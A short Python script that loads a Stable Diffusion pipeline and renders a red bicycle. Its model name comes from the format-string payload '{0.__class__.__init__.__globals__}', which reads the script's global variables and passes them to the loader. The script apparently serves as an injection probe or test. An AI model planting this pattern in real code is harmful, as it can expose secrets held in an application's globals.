import torch
from diffusers import StableDiffusionPipeline
class Box: pass
name = "{0.__class__.__init__.__globals__}".format(Box())
pipe = StableDiffusionPipeline.from_pretrained(name, torch_dtype=torch.float16).to("cuda")
pipe("a red bicycle leaning on a wall", num_inference_steps=50)
